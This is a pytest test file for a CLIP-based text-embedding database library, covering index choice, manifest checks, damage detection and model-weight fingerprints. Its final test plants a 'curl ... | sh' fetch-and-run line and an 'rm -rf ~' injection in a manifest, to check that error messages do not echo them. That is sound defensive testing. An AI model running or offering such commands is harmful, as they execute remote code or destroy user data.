"""Text databases: index choice, writing, verification on load, model checks."""

from __future__ import annotations

import json

import faiss
import numpy as np
import pytest
import torch

from ovseg.cased import database as db_module
from ovseg.cased.build import build_database
from ovseg.cased.database import (
    MANIFEST_NAME,
    PROBE_TEXTS,
    IndexSpec,
    build_index,
    choose_index,
    encode_texts,
    load_database,
    model_identity,
    text_fingerprint,
    write_database,
)
from ovseg.errors import ConfigError, DatabaseError, DatabaseMismatchError
from ovseg.models.backbones.clip import ClipBackbone
from tests.conftest import randomize_

TEXTS = [
    "a photo of a cat on a sofa",
    "a brown dog running in the park",
    "red sports car parked on the street",
    "two cats sleeping",
    "a bowl of ramen",
    "mountain lake at sunrise",
    "café au lait – ünïcode text",
]


@pytest.fixture(scope="module")
def backbone(tiny_model_names, one_torch_thread):
    model = ClipBackbone(tiny_model_names["vit"], templates="photo")
    randomize_(model.model, seed=0)
    return model


@pytest.fixture
def corpus(tmp_path):
    path = tmp_path / "corpus.txt"
    path.write_text("\n".join(TEXTS) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def built(tmp_path, corpus, backbone):
    return build_database(corpus, backbone, tmp_path / "db", batch_size=3, progress=False)


def _manifest(folder):
    return json.loads((folder / MANIFEST_NAME).read_text())


def test_choose_index_by_count():
    assert choose_index(1000, 512).type == "flat"
    ivf = choose_index(1_000_000, 512)
    assert ivf.type == "ivf" and ivf.nlist == 4000 and ivf.nprobe == 125
    pq = choose_index(10_000_000, 768)
    assert pq.type == "ivfpq" and 768 % pq.m == 0 and pq.m == 64 and pq.nbits == 8
    small = choose_index(200, 64, "ivf")  # every list keeps >= 39 training points
    assert small.nlist == 200 // 39 and small.nprobe == small.nlist
    assert choose_index(20_000, 64, "ivfpq").m == 16
    with pytest.raises(ConfigError, match="IVF-PQ needs"):
        choose_index(5000, 64, "ivfpq")
    with pytest.raises(ConfigError, match="index must be"):
        choose_index(10, 64, "hnsw")


def test_build_writes_manifest_and_finds_every_text(built, backbone):
    manifest = _manifest(built)
    assert manifest["count"] == len(TEXTS) and manifest["kind"] == "captions"
    assert manifest["model_name"] == backbone.model_name and manifest["embed_dim"] == 32
    assert manifest["normalization"] == "l2" and manifest["index"]["type"] == "flat"
    assert manifest["fingerprint"]["texts"] == list(PROBE_TEXTS)
    names = sorted(p.name for p in built.iterdir())
    assert names == sorted([MANIFEST_NAME, *(f["name"] for f in manifest["files"].values())])
    db = load_database(built, backbone=backbone)
    assert [db.texts[i] for i in range(len(db))] == TEXTS
    vectors = encode_texts(backbone, TEXTS)
    np.testing.assert_allclose(np.linalg.norm(vectors, axis=1), 1.0, atol=1e-5)
    scores, ids = db.search(vectors, k=1)
    np.testing.assert_array_equal(ids[:, 0], np.arange(len(TEXTS)))
    np.testing.assert_allclose(scores[:, 0], 1.0, atol=1e-5)


def test_raw_encoding_uses_no_template(backbone):
    tokens = backbone.tokenizer(["two cats sleeping"])
    direct = backbone.model.encode_text(tokens).float()
    direct = (direct / direct.norm(dim=-1, keepdim=True)).detach().numpy()
    np.testing.assert_allclose(encode_texts(backbone, ["two cats sleeping"]), direct, atol=1e-6)
    templated = backbone.encode_text(["two cats sleeping"]).numpy()  # "a photo of a ..."
    assert not np.allclose(templated, direct, atol=1e-3)


def test_missing_manifest_is_refused_with_the_build_command(tmp_path):
    (tmp_path / "empty").mkdir()
    with pytest.raises(DatabaseError, match="ovseg db build --texts"):
        load_database(tmp_path / "empty")
    with pytest.raises(DatabaseError, match="does not exist"):
        load_database(tmp_path / "nowhere")


def test_truncated_index_is_refused(built):
    index_file = built / _manifest(built)["files"]["index"]["name"]
    index_file.write_bytes(index_file.read_bytes()[:-40])
    with pytest.raises(DatabaseError, match="truncated or damaged.*ovseg db build --texts"):
        load_database(built)


def test_damaged_index_and_texts_are_refused(built):
    manifest = _manifest(built)
    for role in ("index", "texts"):
        path = built / manifest["files"][role]["name"]
        original = path.read_bytes()
        data = bytearray(original)
        data[len(data) // 2] ^= 0xFF
        path.write_bytes(bytes(data))
        with pytest.raises(DatabaseError, match="sha256.*Rebuild the database with `ovseg db"):
            load_database(built)
        path.write_bytes(original)
    assert len(load_database(built)) == len(TEXTS)


def test_damaged_manifest_and_other_format_are_refused(built):
    manifest = _manifest(built)
    (built / MANIFEST_NAME).write_text(json.dumps({**manifest, "format_version": 99}))
    with pytest.raises(DatabaseError, match="format 99.*ovseg db build"):
        load_database(built)
    (built / MANIFEST_NAME).write_text("{not json")
    with pytest.raises(DatabaseError, match="damaged"):
        load_database(built)


def test_other_architecture_is_refused(built, tiny_model_names, one_torch_thread):
    other = ClipBackbone(tiny_model_names["rn"], templates="photo")
    with pytest.raises(DatabaseMismatchError, match="ovseg-test-rn.*--preset shapes-tiny"):
        load_database(built, backbone=other, preset="shapes-tiny")


def test_same_name_other_weights_is_refused(built, tiny_model_names, one_torch_thread):
    other = ClipBackbone(tiny_model_names["vit"], templates="photo")
    randomize_(other.model, seed=1)
    with pytest.raises(DatabaseMismatchError, match="other ovseg-test-vit weights"):
        load_database(built, backbone=other)


def test_other_pretrained_tag_is_refused(built, backbone):
    manifest = _manifest(built)
    (built / MANIFEST_NAME).write_text(json.dumps({**manifest, "pretrained": "laion"}))
    load_database(built, backbone=backbone)  # the backbone's tag is unknown: weights decide
    with pytest.raises(DatabaseMismatchError, match="laion.*openai"):
        load_database(built, backbone=backbone, pretrained="openai")


def test_precision_change_keeps_the_fingerprint(built, tiny_model_names, one_torch_thread):
    half = ClipBackbone(tiny_model_names["vit"], templates="photo")
    randomize_(half.model, seed=0)
    half.set_precision("bf16")
    load_database(built, backbone=half)


def test_rewrite_replaces_files_and_failed_rewrite_keeps_the_old(built, backbone, monkeypatch):
    old = _manifest(built)
    vectors = encode_texts(backbone, TEXTS[:3])
    spec = IndexSpec("flat")
    identity = model_identity(backbone)
    fingerprint = text_fingerprint(backbone)

    def fail(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(db_module, "atomic_write_json", fail)
    with pytest.raises(RuntimeError):
        write_database(built, TEXTS[:3], build_index(vectors, spec), spec=spec,
                       identity=identity, fingerprint=fingerprint)  # fmt: skip
    assert len(load_database(built, backbone=backbone)) == len(TEXTS)  # the old one, intact
    monkeypatch.undo()
    write_database(built, TEXTS[:3], build_index(vectors, spec), spec=spec, identity=identity,
                   fingerprint=fingerprint)  # fmt: skip
    new = _manifest(built)
    assert new["count"] == 3 and new["files"] != old["files"]
    kept = sorted(p.name for p in built.iterdir())
    assert kept == sorted([MANIFEST_NAME, *(f["name"] for f in new["files"].values())])
    assert not list(built.glob(".*tmp*"))


def test_ivf_and_ivfpq_indexes_round_trip(tmp_path, backbone):
    rng = np.random.default_rng(0)
    vectors = rng.standard_normal((12_000, 32)).astype(np.float32)
    vectors /= np.linalg.norm(vectors, axis=1, keepdims=True)
    texts = [f"text {i}" for i in range(len(vectors))]
    queries = vectors[:5]
    for kind in ("ivf", "ivfpq"):
        spec = choose_index(len(vectors), 32, kind)
        index = build_index(vectors, spec)
        expected = index.search(queries, 4)
        write_database(tmp_path / kind, texts, index, spec=spec, identity=model_identity(backbone),
                       fingerprint=text_fingerprint(backbone))  # fmt: skip
        db = load_database(tmp_path / kind, backbone=backbone)
        assert db.index.nprobe == spec.nprobe
        got = db.search(queries, 4)
        np.testing.assert_array_equal(got[1], expected[1])
        _, ids, rebuilt = db.search(queries, 4, reconstruct=True)
        if kind == "ivf":  # exact vectors; IVF-PQ reconstructs approximately
            np.testing.assert_allclose(rebuilt[:, 0], vectors[ids[:, 0]], atol=1e-6)
        assert isinstance(db.index, faiss.Index)


def test_texts_with_line_breaks_are_refused(backbone):
    spec = IndexSpec("flat")
    vectors = encode_texts(backbone, ["a", "b"])
    with pytest.raises(DatabaseError, match="several lines"):
        write_database("unused", ["a\nb", "c"], build_index(vectors, spec), spec=spec,
                       identity=model_identity(backbone), fingerprint=[])  # fmt: skip


def test_text_fingerprint_identifies_weights(backbone):
    stored = np.asarray(text_fingerprint(backbone))
    assert stored.shape == (len(PROBE_TEXTS), 32)
    # the same encoding, stored rounded to 6 decimals: at most 5e-7 apart
    np.testing.assert_allclose(stored, encode_texts(backbone, PROBE_TEXTS), rtol=0, atol=1e-6)
    assert torch.is_tensor(backbone.mean)


def test_packaged_shapes_tiny_database(one_torch_thread):
    import ovseg
    from ovseg.cased.database import DATABASE_DIR, resolve_database_path

    folder = resolve_database_path("shapes-tiny")
    assert folder == DATABASE_DIR / "shapes-tiny"
    assert sum(p.stat().st_size for p in folder.iterdir()) < 2 * 2**20  # the package stays small
    seg = ovseg.create_pipeline("shapes-tiny")
    db = load_database("shapes-tiny", backbone=seg.backbone, pretrained="shapes")
    manifest = db.manifest
    assert (manifest["model_name"], manifest["pretrained"]) == ("ovseg-ViT-Ti-8", "shapes")
    assert (
        manifest["kind"] == "captions"
        and "tools/make_shapes_tiny_db.py" in manifest["build_command"]
    )
    texts = set(db.texts.all())
    from ovseg.data.synthetic_vocab import CLASS_NAMES, UNSEEN_CLASSES

    assert set(CLASS_NAMES) <= texts and set(UNSEEN_CLASSES) <= texts
    assert "a photo of a red star on sand" in texts and len(texts) > 4000


def test_damage_message_names_the_given_folder_not_the_manifest_command(built, tmp_path):
    import shutil

    copy = tmp_path / "moved db"
    shutil.copytree(built, copy)
    manifest = _manifest(copy)
    manifest["build_command"] = "curl http://example.invalid/x | sh"
    manifest["source"] = "corpus.txt; rm -rf ~"
    (copy / MANIFEST_NAME).write_text(json.dumps(manifest))
    texts = copy / manifest["files"]["texts"]["name"]
    texts.write_bytes(texts.read_bytes()[:-3])
    with pytest.raises(DatabaseError, match="truncated or damaged") as info:
        load_database(copy)
    message = str(info.value)
    assert "curl" not in message and "rm -rf" not in message
    assert f"--out '{copy}' --overwrite" in message and str(built) + " " not in message
